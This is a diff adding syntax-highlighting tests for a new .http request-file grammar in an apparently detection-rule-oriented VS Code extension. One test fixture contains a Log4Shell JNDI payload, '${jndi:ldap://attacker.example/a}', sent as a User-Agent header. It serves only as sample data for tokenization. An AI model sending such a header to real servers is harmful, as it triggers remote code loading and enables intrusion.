@@ -13,6 +13,7 @@ const read = (path: string) => readFileSync(new URL(path, root), 'utf8');
 const grammarFiles: Record<string, string> = {
   'source.rulesmith': 'syntaxes/rulesmith.tmLanguage.json',
   'rulesmith.json.injection': 'syntaxes/rulesmith-json-injection.tmLanguage.json',
+  'source.rulesmith.http': 'syntaxes/rulesmith-http.tmLanguage.json',
   // VS Code's JSON grammar is not installed here: a minimal one with the same scopes.
   'source.json': 'test/fixtures/syntaxes/json-minimal.tmLanguage.json',
 };
@@ -281,5 +282,56 @@ describe('package.json contributions', () => {
       assert.equal(file.scopeName, g.scopeName, g.path);
     }
     assert.equal(pkg.contributes.languages[0].configuration, './syntaxes/language-configuration.json');
+  });
+});
+
+describe('rulesmith-http.tmLanguage.json (.http files without REST Client)', () => {
+  const H = 'source.rulesmith.http';
+  const h = (s: string) => `${s}.rulesmith-http`;
+  let tokens: Token[];
+  before(async () => {
+    tokens = await tokenize(H, read('test/fixtures/syntaxes/requests.http'));
+  });
+
+  it('separators, with the request name', () => {
+    check(tokens, [
+      ['###', 0, [h('meta.separator'), h('punctuation.separator.request')]],
+      ['Log4Shell in a header', 0, [h('meta.separator'), h('entity.name.section.request')]],
+      // A bare `###` after a body ends the request.
+      ['###', 1, [h('meta.separator'), h('punctuation.separator.request')]],
+    ], [H]);
+  });
+
+  it('`# @field value` and `// @name` metadata; plain comments', () => {
+    check(tokens, [
+      ['#', 0, [h('meta.metadata'), h('punctuation.definition.comment')]],
+      ['@', 0, [h('meta.metadata'), h('punctuation.definition.annotation')]],
+      ['ip.src', 0, [h('meta.metadata'), h('variable.other.field')]],
+      ['203.0.113.9', 0, [h('meta.metadata'), h('string.unquoted.value')]],
+      ['//', 0, [h('meta.metadata'), h('punctuation.definition.comment')]],
+      ['name', 0, [h('meta.metadata'), h('variable.other.field')]],
+      ['log4shell', 0, [h('meta.metadata'), h('string.unquoted.value')]],
+      [' a plain comment', 0, [h('comment.line')]],
+    ], [H]);
+  });
+
+  it('the request line: method, URL, version; a URL alone', () => {
+    check(tokens, [
+      ['GET', 0, [h('meta.request'), h('keyword.other.method')]],
+      ['https://www.example.com/search?q=shoes', 0, [h('meta.request'), h('string.unquoted.uri')]],
+      ['HTTP/1.1', 0, [h('meta.request'), h('constant.language.http-version')]],
+      ['/health', 0, [h('meta.request'), h('string.unquoted.uri')]],
+    ], [H]);
+  });
+
+  it('headers up to the empty line, then the body verbatim (a request line in it is not one)', () => {
+    check(tokens, [
+      ['User-Agent', 0, [h('meta.request'), h('meta.header'), h('support.type.property-name.header')]],
+      [':', 0, [h('meta.request'), h('meta.header'), h('punctuation.separator.key-value')]],
+      ['${jndi:ldap://attacker.example/a}', 0, [h('meta.request'), h('meta.header'), h('string.unquoted.header-value')]],
+      ['Accept', 0, [h('meta.request'), h('meta.header'), h('support.type.property-name.header')]],
+      ['text/html', 0, [h('meta.request'), h('meta.header'), h('string.unquoted.header-value')]],
+      ['user=admin&x=GET /not-a-request', 0, [h('meta.request'), h('meta.body')]],
+    ], [H]);
   });
 });
